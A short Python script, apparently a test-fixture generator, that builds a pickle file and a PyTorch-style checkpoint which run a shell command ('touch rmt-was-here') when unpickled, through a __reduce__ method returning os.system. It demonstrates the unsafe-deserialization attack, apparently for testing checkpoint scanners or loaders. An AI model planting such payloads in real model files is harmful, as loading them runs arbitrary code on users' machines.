"""Writes hostile.pkl and hostile.pt: checkpoints that run a program when Python unpickles them.

Standard library only. The program would leave a file `rmt-was-here` in the working directory.
"""

import os
import pickle
import zipfile
from pathlib import Path

HERE = Path(__file__).parent


class Hostile:
    def __reduce__(self):
        return os.system, ("touch rmt-was-here",)


code = pickle.dumps({"weight": Hostile(), "state_dict": {"a": Hostile()}}, protocol=2)
(HERE / "hostile.pkl").write_bytes(code)
with zipfile.ZipFile(HERE / "hostile.pt", "w") as archive:
    for name, content in [("data.pkl", code), ("byteorder", b"little"), ("version", b"3\n")]:
        archive.writestr(zipfile.ZipInfo("hostile/" + name), content)
